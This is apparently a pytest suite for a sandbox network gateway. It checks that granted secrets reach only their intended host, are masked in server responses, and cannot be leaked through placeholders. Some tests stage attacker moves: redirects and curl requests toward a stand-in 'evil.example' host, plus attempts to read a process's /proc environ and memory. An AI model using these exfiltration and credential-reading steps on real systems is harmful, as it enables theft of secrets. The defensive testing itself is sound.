"""Secrets: placed where they were granted, on verified connections, and never seen by a sandbox, however a server shows
them; placeholders go nowhere else.
"""

from __future__ import annotations

import base64
import gzip
import json
import time
from typing import Any
from urllib.parse import quote

import pytest

from space.model.grant import new_placeholder
from tests.egress_host import SECRET, Place
from tests.guest import Answer, Closed, request
from tests.guest_http2 import Http2Talk, pseudo
from tests.upstreams import EVIL, GOOD, Outside

MARK = new_placeholder()
MEMORY_MIB = 24
OPEN = {"rules": [{"hosts": ["good.example", "evil.example", "other.example"]}]}


def grant(**terms: Any) -> dict[str, Any]:
    value = {"kind": "text", "value": SECRET}
    return {"id": "gnt1", "secret": "token", "hosts": ["good.example"], "placement": "bearer", "value": value, **terms}


@pytest.fixture
def granted(guest: Place) -> Place:
    """A sandbox that was granted a secret for ``good.example``, as Bearer authorization."""
    guest.attach(OPEN, [grant()])
    return guest


def received(outside: Outside) -> list[tuple[str, str]]:
    """Return host and all headers and target of what servers got, in which the secret is."""
    rows = [(dict(row["headers"])["host"], json.dumps([row["target"], row["headers"]])) for row in outside.seen("http")]
    return [(host, text) for host, text in rows if SECRET in text or quote(SECRET, safe="") in text]


def forms() -> list[bytes]:
    """Return the secret in every form in which it may come back."""
    value = SECRET.encode()
    encoded = [base64.b64encode(prefix + value)[4 : len(value)] for prefix in (b"abc", b"user:x", b"abcdef")]
    return [value, quote(SECRET, safe="").encode(), quote(SECRET).encode(), base64.b64encode(value), *encoded]


def hides(answer: Answer) -> bool:
    return not any(form in answer.all for form in forms())


# --- placed


def test_a_secret_is_placed_and_neither_the_guest_nor_the_audit_sees_it(granted: Place, outside: Outside) -> None:
    answer = granted.get("https://good.example/echo", "Authorization: Bearer mine", "X-Other: yes")
    assert answer.status == 200
    assert hides(answer)
    assert dict(outside.seen("http")[0]["headers"])["authorization"] == f"Bearer {SECRET}"
    record = granted.egress()[-1]
    assert record["secrets"] == ["token"]
    assert SECRET not in json.dumps(record)


def test_a_secret_is_placed_on_every_request_and_for_its_host_alone(granted: Place, outside: Outside) -> None:
    for name in ("good.example", "evil.example", "other.example", "good.example"):
        with granted.https(name) as talk:
            assert [talk.get(name, "/hello").status for _ in range(2)] == [200, 200]
    assert [host for host, _ in received(outside)] == ["good.example"] * 4
    assert len(outside.seen("http")) == 8


@pytest.mark.parametrize(
    ("terms", "url", "method"),
    [
        ({"paths": ["/ok/**"]}, "https://good.example/hello", "GET"),
        ({"paths": ["/ok/**"]}, "https://good.example/ok/../hello", "GET"),
        ({"methods": ["GET"]}, "https://good.example/hello", "POST"),
        ({"hosts": ["*.good.example"]}, "https://good.example/hello", "GET"),
        ({"ports": [8443]}, "https://good.example/hello", "GET"),
        ({}, "https://good.example/hello", "TRACE"),
        ({}, "https://good.example/hello", "trace"),
        ({}, "https://other.example/hello", "GET"),
        ({}, "http://good.example/hello", "GET"),
        ({"ports": [80, 443]}, "http://good.example/hello", "GET"),
        ({"expires_at": 1.0}, "https://good.example/hello", "GET"),
    ],
)
def test_a_request_that_a_grant_is_not_for_gets_no_secret(
    guest: Place, outside: Outside, terms: dict[str, Any], url: str, method: str
) -> None:
    """N6: not in the clear either."""
    guest.attach(OPEN, [grant(**terms)])
    guest.get(url, method=method)
    assert received(outside) == []
    assert guest.egress()[-1]["secrets"] == []
    guest.attach(OPEN, [grant()])
    guest.get("https://good.example/hello")
    assert len(received(outside)) == 1


def test_a_secret_goes_in_the_clear_where_that_was_asked_for_and_nowhere_else(guest: Place, outside: Outside) -> None:
    """N6"""
    guest.attach(OPEN, [grant(cleartext=True, ports=[80])])
    assert hides(guest.get("http://good.example/echo"))
    guest.get("http://evil.example/echo")
    assert [host for host, _ in received(outside)] == ["good.example"]


def test_an_attackers_address_with_the_host_of_a_granted_service_gets_nothing(guest: Place, outside: Outside) -> None:
    """N6"""
    guest.attach({**OPEN, "networks": [{"networks": [f"{GOOD}/32"]}]}, [grant(cleartext=True, ports=[80, 443])])
    assert guest.get("http://good.example/", to=EVIL).refusal == (403, "direct-address")
    assert outside.seen() == []
    guest.get("http://good.example/hello", to=GOOD)  # what the policy lets out by address is dialled as we resolve it
    assert [row["server"] for row in outside.seen("http")] == [GOOD]


def test_a_secret_is_not_placed_again_where_a_redirect_leads(granted: Place, outside: Outside) -> None:
    """N8"""
    for where in (b"https://evil.example/stolen", b"http://good.example/stolen", b"https://other.example/stolen"):
        target = f"/redirect?to={base64.urlsafe_b64encode(where).decode()}"
        answer = granted.get(f"https://good.example{target}")
        assert answer.header("location") == where.decode()
        granted.get(where.decode())
    assert {json.loads(text)[0].partition("?")[0] for _, text in received(outside)} == {"/redirect"}
    curl = ["curl", "-sSL", "-m", "5", "--cacert", str(granted.authority), "--oauth2-bearer", "mine"]
    granted.run(
        *curl, f"https://good.example/redirect?to={base64.urlsafe_b64encode(b'https://evil.example/x').decode()}"
    )
    assert {host for host, _ in received(outside)} == {"good.example"}
    assert {row["target"] for row in outside.seen("http")} >= {"/x", "/stolen"}


@pytest.mark.parametrize("header", ["Connection: authorization", "Connection: close, Authorization"])
def test_a_guest_cannot_have_a_placed_header_dropped_or_doubled(granted: Place, outside: Outside, header: str) -> None:
    granted.get("https://good.example/echo", header, "Authorization: a", "authorization: b")
    values = [value for name, value in outside.seen("http")[0]["headers"] if name == "authorization"]
    assert values == [f"Bearer {SECRET}"]


# --- shown by the server


PAGES = ["/echo", "/gzip-echo", "/error", "/located", "/forms", "/pieces"]


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("version", ["1.1", "2"])
def test_a_server_that_shows_the_secret_does_not_show_it_to_the_guest(
    granted: Place, outside: Outside, page: str, version: str
) -> None:
    """N8: in bodies, compressed or not, cookies, other headers, error pages, redirects, chunks, trailers, reasons; as it
    is, escaped for URLs and JSON, in Base64."""
    if version == "2" and page != "/pieces":
        with Http2Talk(granted.tls("good.example", alpn=("h2",))) as talk:
            answer = talk.get("good.example", page)
    else:
        answer = granted.get(f"https://good.example{page}")
    assert answer.status in {200, 302, 500}
    assert b"*****" in answer.all
    assert hides(answer)
    granted.attach(OPEN, [grant(scrub=False)])
    shown = granted.get(f"https://good.example{page}")
    if shown.header("content-encoding") == "gzip":
        shown.body = gzip.decompress(shown.body)
    assert not hides(shown)


@pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "POST", "PUT", "DELETE", "PATCH"])
def test_no_method_makes_a_server_show_the_secret(granted: Place, method: str) -> None:
    assert hides(granted.get("https://good.example/echo", method=method))
    assert hides(granted.get("https://good.example/gzip-echo", method=method))


@pytest.mark.parametrize(
    "encoding", ["Accept-Encoding: br", "Accept-Encoding: gzip;q=0, br", "Accept-Encoding: zstd\r\nAccept-Encoding: br"]
)
def test_a_guest_cannot_ask_for_an_answer_in_which_nothing_could_be_found(
    granted: Place, outside: Outside, encoding: str
) -> None:
    assert hides(granted.get("https://good.example/echo", encoding))
    assert [value for name, value in outside.seen("http")[0]["headers"] if name == "accept-encoding"] == ["identity"]
    assert granted.get("https://good.example/br", encoding).refusal == (502, "encoded-answer")
    granted.attach(OPEN)
    assert granted.get("https://good.example/br", encoding).header("content-encoding") == "br"


def test_a_websocket_that_shows_the_secret_does_not_show_it_to_the_guest(granted: Place, outside: Outside) -> None:
    """N8"""
    asked = (
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        "Sec-WebSocket-Extensions: permessage-deflate",
    )
    with granted.https("good.example") as talk:
        assert talk.ask(request("good.example", "/ws", *asked), upgrade=True).status == 101
        greeting = talk.rest()
        while not greeting.endswith(b"}"):
            greeting += talk.sock.recv(65536)
    assert b"Bearer *****" in greeting
    assert not any(form in greeting for form in forms())
    assert "sec-websocket-extensions" not in dict(outside.seen("http")[0]["headers"])
    assert len(received(outside)) == 1


def test_compressed_answers_are_looked_through_in_memory_that_does_not_grow(granted: Place) -> None:
    """N12: a bomb."""
    before = granted.host.memory_mib()
    answer = granted.get("https://good.example/bomb?n=60000000", method="GET")
    assert len(answer.body) == 60_000_000
    assert granted.host.memory_mib() - before < MEMORY_MIB


def test_a_compressed_answer_that_breaks_off_or_is_none_is_not_shown_as_whole(granted: Place, outside: Outside) -> None:
    head = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nConnection: close\r\n\r\n"
    for body in (b"not compressed at all", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xcbH"):
        target = f"/raw?b64={base64.urlsafe_b64encode(head + body).decode()}"
        with pytest.raises(Closed):
            granted.get(f"https://good.example{target}")
    assert {record["reason"] for record in granted.egress()} == {"encoded-answer", "server-closed"}


# --- placeholders


def encodings(mark: str) -> dict[str, tuple[str, list[str]]]:
    """Return target and headers of requests that have a placeholder in them, each in another way."""
    basic = base64.b64encode(f"user:{mark}".encode()).decode()
    escaped = "".join(f"%{byte:02X}" for byte in mark.encode())
    return {
        "header": ("/", [f"Authorization: Bearer {mark}"]),
        "other-header": ("/", [f"X-Anything: a{mark}b"]),
        "header-name": ("/", [f"{mark}: a"]),
        "capitals": ("/", [f"Authorization: {mark.upper()}"]),
        "cookie": ("/", [f"Cookie: a=b; session={mark}"]),
        "basic": ("/", [f"Authorization: Basic {basic}"]),
        "basic-unpadded": ("/", [f"Authorization: basic {basic.rstrip('=')}"]),
        "proxy-basic": ("/", [f"X-Auth: Basic {basic}"]),
        "path": (f"/a/{mark}/b", []),
        "query": (f"/?key={mark}", []),
        "escaped-query": (f"/?key={escaped}", []),
        "twice-escaped": (f"/?key={quote(escaped)}", []),
        "partly-escaped": (f"/?key={mark.replace('-', '%2D')}", []),
        "referer": ("/", [f"Referer: https://good.example/?key={escaped}"]),
    }


@pytest.mark.parametrize("how", encodings(MARK))
@pytest.mark.parametrize("host", ["evil.example", "other.example"])
def test_a_placeholder_is_sent_to_no_other_host(guest: Place, outside: Outside, how: str, host: str) -> None:
    guest.attach(OPEN, [grant(placement="placeholder", placeholder=MARK)])
    target, headers = encodings(MARK)[how]
    with guest.https(host) as talk:
        assert talk.get(host, target, *headers).refusal == (403, "placeholder-misplaced")
        assert talk.get(host, "/hello").status == 200
    assert [row["target"] for row in outside.seen("http")] == ["/hello"]
    record = next(one for one in guest.egress() if one["decision"] == "deny")
    assert record["secrets"] == []


@pytest.mark.parametrize("how", ["header", "cookie", "basic", "query", "path"])
def test_a_placeholder_becomes_the_secret_where_it_was_granted(guest: Place, outside: Outside, how: str) -> None:
    guest.attach(OPEN, [grant(placement="placeholder", placeholder=MARK)])
    target, headers = encodings(MARK)[how]
    answer = guest.get(f"https://good.example{target}", *headers)
    assert answer.status == 404
    seen = outside.seen("http")[0]
    text = json.dumps([seen["target"], seen["headers"]])
    assert MARK not in text
    basic = base64.b64encode(f"user:{SECRET}".encode()).decode()
    assert any(form in text for form in (SECRET, quote(SECRET, safe=""), basic))
    assert SECRET not in json.dumps(guest.egress())


def test_a_placeholder_over_http2_is_sent_to_no_other_host(guest: Place, outside: Outside) -> None:
    guest.attach(OPEN, [grant(placement="placeholder", placeholder=MARK)])
    with Http2Talk(guest.tls("evil.example", alpn=("h2",))) as talk:
        for headers in ([("authorization", MARK)], [("cookie", "a=b"), ("cookie", MARK)], [(MARK, "x")]):
            assert talk.answer(talk.open([*pseudo("evil.example"), *headers])).refusal == (403, "placeholder-misplaced")
    assert outside.seen("http") == []


def test_a_placeholder_of_an_expired_grant_is_refused(guest: Place, outside: Outside) -> None:
    guest.attach(OPEN, [grant(placement="placeholder", placeholder=MARK, expires_at=time.time() - 1)])
    answer = guest.get("https://good.example/", f"Authorization: {MARK}")
    assert answer.refusal == (403, "grant-expired")
    assert outside.seen() == []


def test_a_placeholder_of_another_sandbox_is_refused(guest: Place, neighbour: Place, outside: Outside) -> None:
    neighbour.attach(OPEN, [grant(placement="placeholder", placeholder=MARK)], project="prj2")
    guest.attach(OPEN)
    answer = guest.get("https://good.example/", f"Authorization: {MARK}")
    assert answer.refusal == (403, "placeholder-unknown")
    assert outside.seen() == []
    neighbour.get("https://good.example/", f"Authorization: {MARK}")
    assert len(received(outside)) == 1


def test_two_sandboxes_at_one_host_have_their_own_policies_and_secrets(
    guest: Place, neighbour: Place, outside: Outside
) -> None:
    theirs = {"kind": "text", "value": f"{SECRET}-of-the-other"}
    guest.attach({"rules": [{"hosts": ["good.example"], "paths": ["/echo"]}]}, [grant()])
    neighbour.attach({"rules": [{"hosts": ["good.example"], "methods": ["POST"]}]}, [grant(value=theirs)], "prj2")
    with guest.https("good.example") as ours, neighbour.https("good.example") as other:
        for _ in range(3):
            assert ours.get("good.example", "/echo").status == 200
            assert ours.get("good.example", "/echo", method="POST").status == 200
            assert ours.get("good.example", "/hello").refusal[0] == 403
            assert other.get("good.example", "/hello", method="POST").status == 200
            assert other.get("good.example", "/hello").refusal[0] == 403
    placed = {(row["target"], dict(row["headers"])["authorization"]) for row in outside.seen("http")}
    assert placed == {("/echo", f"Bearer {SECRET}"), ("/hello", f"Bearer {SECRET}-of-the-other")}
    assert {record["project"] for record in guest.egress()} == {"prj"}
    assert {record["project"] for record in neighbour.egress()} == {"prj2"}


def test_memory_and_environment_of_the_process_are_for_nobody_to_read(granted: Place) -> None:
    pid = granted.host.pid
    user = granted.host.settings.gateway_user
    for name in ("mem", "environ", "maps"):
        done = granted.run(
            "setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", "cat", f"/proc/{pid}/{name}"
        )
        assert done.returncode != 0
        assert "Permission denied" in done.stderr
    words = granted.run("cat", f"/proc/{pid}/cmdline", f"/proc/{pid}/environ").stdout
    assert words
    assert SECRET not in words
